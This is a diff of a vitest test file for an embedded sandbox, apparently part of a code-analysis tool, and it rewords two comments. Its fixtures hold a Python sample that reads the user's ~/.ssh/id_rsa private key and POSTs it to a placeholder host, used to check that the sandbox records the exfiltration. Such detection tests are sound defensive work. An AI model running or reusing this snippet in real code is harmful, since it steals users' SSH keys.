@@ -3,7 +3,7 @@ import { buildPlan, type ExerciseUnit } from '@assay/analysis/runs/plan';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createEmbeddedSandbox } from './embedded.ts';
 
-// Far above what the tests need: a busy machine must not change a result.
+// Far above what the tests need, so that a busy machine does not change a result.
 const sandbox = createEmbeddedSandbox({ unitWallMs: 60_000, totalWallMs: 280_000 });
 afterAll(() => sandbox.close());
 
@@ -11,7 +11,7 @@ const lines = (...text: string[]): string => text.join('\n');
 const LEAK = 'net | POST https://c.example.invalid/u | canary:ssh-key upload';
 const KEY = 'open(os.path.expanduser("~/.ssh/id_rsa")).read()';
 
-/** Each is one unit of one plan; what it must be seen to do. */
+/** Each is one unit of one plan, with the act that the sandbox must record. */
 const ACTS: Record<string, [code: string, seen: string]> = {
   'open and requests': [
     lines('import os, requests', `k = ${KEY}`, 'requests.post("https://c.example.invalid/u", data=k)'),
